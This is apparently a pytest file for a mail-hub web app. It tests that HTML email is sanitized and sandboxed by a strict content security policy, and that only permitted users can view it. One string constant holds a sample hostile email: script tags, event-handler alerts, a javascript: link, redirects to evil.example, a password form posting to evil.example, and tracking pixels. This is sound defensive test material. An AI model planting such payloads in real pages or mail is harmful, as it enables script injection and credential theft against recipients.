"""A mail's HTML comes to those who may see its conversation, as a page that can do nothing."""

from __future__ import annotations

import httpx
import pytest

from hub.assembly import Hub
from hub.permissions import Agent
from hub.transaction import milliseconds
from storage.inbox import attachments
from tests.cast import Cast
from tests.web.conftest import Bearer, browser, sign_in
from web.app import Application

HOSTILE = """<!doctype html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/b.png)}</style></head>
<body onload="alert(1)"><script>alert(2)</script><h1 style="color:#b42318;position:fixed;background:url(https://evil.example/h.png)">Offer</h1>
<img src="cid:logo@shop" onerror="alert(3)"><img src="https://pixel.example/seen.gif"><img src="http://pixel.example/plain.gif">
<img src="cid:nothing@shop"><svg onload="alert(4)"><image href="https://evil.example/s.png"/></svg>
<a href="javascript:alert(5)">press</a><a href="https://shop.example/">shop</a><form action="https://evil.example/"><input name="password"></form>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><img src="data:image/svg+xml,%3Csvg onload=alert(6)%3E">
</body></html>"""


def mail(html: str) -> bytes:
    return (
        "From: Pim <pim@example.com>\r\nTo: sales@example.com\r\nSubject: Offer\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; boundary="b"\r\n\r\n'
        f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
        "--b\r\nContent-Type: image/png\r\nContent-ID: <logo@shop>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--b--\r\n"
    ).encode()


async def kept(hub: Hub, channel: str, raw: bytes, place: str = "mails/1#0") -> str:
    """A mail in the store, with the attachment that stands for it; the address its design is shown at."""
    await hub.blobs.put("mails/1", raw)
    row = {
        "id": "original", "kind": "document", "mime": "message/rfc822", "name": "original.eml", "state": "pending", "channel_id": channel,
        "provider_media_id": place, "created_at": milliseconds(),
    }  # fmt: skip
    async with hub.transactions.begin() as tx:
        await attachments.insert_many(tx.connection, [row])
    return "/api/v1/files/original/design"


async def test_hostile_html_comes_out_harmless(client: httpx.AsyncClient, hub: Hub, cast: Cast, bearer: Bearer) -> None:
    answer = await client.get(await kept(hub, cast.sales, mail(HOSTILE)), headers=bearer(cast.dana))
    assert answer.status_code == 200
    for word in (
        "script",
        "alert",
        "evil.example",
        "pixel.example",
        "onerror",
        "form",
        "iframe",
        "object",
        "svg",
        "fixed",
    ):
        assert word not in answer.text.partition("<body>")[2], word
    assert "evil.example" not in answer.text
    assert '<img src="data:image/png;base64,iVBORw0KGgo=">' in answer.text
    assert '<a href="https://shop.example/" target="_blank" rel="noopener noreferrer nofollow">' in answer.text


async def test_the_page_may_do_nothing_even_if_cleaning_missed_something(
    client: httpx.AsyncClient, hub: Hub, cast: Cast, bearer: Bearer
) -> None:
    answer = await client.get(await kept(hub, cast.sales, mail("<p>Hi</p>")), headers=bearer(cast.dana))
    policy = dict(part.strip().partition(" ")[::2] for part in answer.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["img-src"] == "data:"
    assert policy["frame-ancestors"] == "'self'"
    assert "script-src" not in policy
    assert set(policy["sandbox"].split()) == {"allow-popups", "allow-popups-to-escape-sandbox"}
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    assert answer.headers["referrer-policy"] == "no-referrer"


async def test_pictures_from_elsewhere_come_when_asked_for_and_by_https_alone(
    client: httpx.AsyncClient, hub: Hub, cast: Cast, bearer: Bearer
) -> None:
    path = await kept(hub, cast.sales, mail(HOSTILE))
    answer = await client.get(f"{path}?pictures=every", headers=bearer(cast.dana))
    assert "https://pixel.example/seen.gif" in answer.text
    assert "plain.gif" not in answer.text
    assert "img-src data: https:;" in answer.headers["content-security-policy"]


async def test_a_frame_is_known_by_the_file_cookie(app: Application, hub: Hub, dana: Agent) -> None:
    client = browser(app)
    path = await kept(hub, next(iter(dana.channels)), mail("<p>Hi</p>"))
    assert (await client.get(path)).status_code == 401
    await sign_in(client)
    assert (await client.get(path)).status_code == 200


async def test_whoever_does_not_see_the_conversation_sees_no_mail(
    client: httpx.AsyncClient, hub: Hub, cast: Cast, bearer: Bearer
) -> None:
    path = await kept(hub, cast.sales, mail("<p>Hi</p>"))
    assert (await client.get(path, headers=bearer(cast.omar))).status_code == 404


@pytest.mark.parametrize(
    ("raw", "place"),
    [
        (b"From: a@example.com\r\n\r\nText alone", "mails/1#0"),
        (mail("<p>Hi</p>"), "mails/1#2"),  # a file of a mail
        (mail("<p>Hi</p>"), "gone#0"),
    ],
)
async def test_what_has_no_design_is_not_found(
    client: httpx.AsyncClient, hub: Hub, cast: Cast, bearer: Bearer, raw: bytes, place: str
) -> None:
    path = await kept(hub, cast.sales, raw, place)
    assert (await client.get(path, headers=bearer(cast.dana))).status_code == 404
